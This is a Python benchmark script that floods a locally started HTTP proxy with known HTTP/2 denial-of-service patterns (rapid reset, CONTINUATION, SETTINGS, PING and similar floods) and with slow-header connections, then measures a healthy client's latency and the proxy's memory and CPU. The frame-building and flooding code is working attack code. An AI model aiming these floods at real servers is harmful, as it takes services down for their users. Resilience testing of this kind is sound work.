#!/usr/bin/env python3
"""floods.py PROXY_HOST LOAD [FLOOD...]: what a healthy client of proxy-host notices while others flood it, and what they leave in memory.

LOAD is the program `load` of the crate tests. proxy-host runs one worker thread on one core; origin, the healthy client (one request after the
other over HTTP/1.1) and the attacker share the other. Of each flood, eight connections at a time are begun anew as soon as they are closed.
"""
import json, os, resource, socket, struct, subprocess, sys, tempfile, threading, time

PORT = 15080
SECONDS = 4
CONNECTIONS = 8
CORES = sorted(os.sched_getaffinity(0))

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
GET = b"\x82\x86\x84\x41\x11bench.example.com"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
HTTP1 = b"GET http://bench.example.com/ HTTP/1.1\r\nHost: bench.example.com\r\n"


def rapid_reset():
    return PREFACE + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, GET) + frame(RST_STREAM, 0, n, struct.pack(">I", 8)) for n in range(1, 4001, 2))


FLOODS = {  # name: bytes of one connection, and what it goes on with
    "rapid reset": (rapid_reset(), b""),
    "CONTINUATION": (PREFACE + frame(HEADERS, END_STREAM, 1, GET), frame(CONTINUATION, 0, 1, b"\x90" * 1000)),
    "empty DATA": (PREFACE + frame(HEADERS, END_HEADERS, 1, GET), frame(DATA, 0, 1) * 1000),
    "SETTINGS": (PREFACE, frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64") * 1000),
    "PING": (PREFACE, frame(PING, 0, 0, bytes(8)) * 1000),
    "WINDOW_UPDATE": (PREFACE, frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 1000),
    "PRIORITY": (PREFACE, frame(PRIORITY, 0, 1, b"\0\0\0\3\1") * 1000),
    "headers without a name": (PREFACE + frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + b"\0\0\0" * 4000), b""),
    "slow heads, HTTP/1.1": None,
    "slow heads, HTTP/2": None,
}
SLOW = {"slow heads, HTTP/1.1": HTTP1 + b"x: " + b"a" * 4000, "slow heads, HTTP/2": PREFACE + frame(HEADERS, END_STREAM, 1, GET)}
SLOW_CONNECTIONS = 2000


def connect():
    return socket.create_connection(("127.0.0.1", PORT))


def attack(first, more, end, count):
    """Begins one connection after another until the time is over."""
    while time.time() < end:
        try:
            with connect() as stream:
                stream.settimeout(5)
                stream.sendall(first)
                while more and time.time() < end:
                    stream.sendall(more)
                while stream.recv(65536):
                    pass
        except OSError:
            pass
        count.append(1)


def attacker(name):
    """The attacker's process: prints how many connections it made."""
    # It must not take the core that it shares from the healthy client.
    os.nice(19)
    end, count = time.time() + SECONDS + 1, []
    if name in SLOW:
        held = []
        while time.time() < end:
            if len(held) < SLOW_CONNECTIONS:
                stream = connect()
                stream.sendall(SLOW[name])
                held.append(stream)
            else:
                time.sleep(0.1)
        print(len(held))
        return
    first, more = FLOODS[name]
    threads = [threading.Thread(target=attack, args=(first, more, end, count)) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(len(count))


def pinned(core, command, **more):
    return subprocess.Popen(command, preexec_fn=lambda: os.sched_setaffinity(0, {CORES[core]}), **more)


def memory(pid):
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) / 1024 for line in status if line.startswith("VmRSS"))


def cpu(pid):
    with open(f"/proc/{pid}/stat") as stat:
        user, system = stat.read().rsplit(")", 1)[1].split()[11:13]
    return (int(user) + int(system)) / os.sysconf("SC_CLK_TCK")


def main():
    if sys.argv[1] == "--attack":
        return attacker(sys.argv[2])
    proxy_host, load, *only = sys.argv[1:]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    processes = []
    with tempfile.TemporaryDirectory() as folder:
        try:
            origin = pinned(-1, [load, "origin"], stdout=subprocess.PIPE, text=True)
            processes.append(origin)
            port = origin.stdout.readline().split()[0].rpartition(":")[2]
            with open(f"{folder}/entries.yaml", "w") as entries:
                entries.write(f"""apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {{name: bench, namespace: default}}
spec:
  hosts: [bench.example.com]
  ports: [{{number: 80, name: p, protocol: HTTP, targetPort: {port}}}]
  resolution: STATIC
  endpoints: [{{address: 127.0.0.1}}]
""")
            proxy = pinned(0, [proxy_host, "--config", folder, "--http-proxy", f"127.0.0.1:{PORT}", "--threads", "1", "--access-log=false",
                               "--log-level", "error", "--request-headers-timeout", "2s"])
            processes.append(proxy)
            while True:
                try:
                    connect().close()
                    break
                except OSError:
                    time.sleep(0.01)

            def healthy():
                said = subprocess.run([load, "http1", "--concurrency", "1", "--warm", "1", "--seconds", str(SECONDS - 1), "--proxy",
                                       f"127.0.0.1:{PORT}", "--pid", str(proxy.pid)], stdout=subprocess.PIPE, text=True, check=True)
                return json.loads(said.stdout)

            def row(name, found, before, most, after, connections, busy):
                print(f"{name:24} p50 {found['p50_ms']:.2f} ms, p99 {found['p99_ms']:.2f} ms; memory {before:.0f} MB before, {most:.0f} MB at most, "
                      f"{after:.0f} MB after; {connections} connections; {busy:.1f} s of CPU", flush=True)

            os.sched_setaffinity(0, {CORES[-1]})
            before = memory(proxy.pid)
            spent = cpu(proxy.pid)
            row("no flood", healthy(), before, memory(proxy.pid), memory(proxy.pid), 1, cpu(proxy.pid) - spent)
            for name in only or FLOODS:
                before = memory(proxy.pid)
                spent = cpu(proxy.pid)
                flooding = subprocess.Popen([sys.executable, __file__, "--attack", name], stdout=subprocess.PIPE, text=True)
                over = threading.Event()
                peak = [before]

                def watch():
                    while not over.wait(0.05):
                        peak[0] = max(peak[0], memory(proxy.pid))

                watching = threading.Thread(target=watch)
                watching.start()
                found = healthy()
                connections = flooding.communicate()[0].strip()
                over.set()
                watching.join()
                # What the last connections held is given back when they are.
                time.sleep(2)
                row(name, found, before, peak[0], memory(proxy.pid), connections, cpu(proxy.pid) - spent)
        finally:
            for process in processes:
                process.terminate()
                process.wait(10)


main()
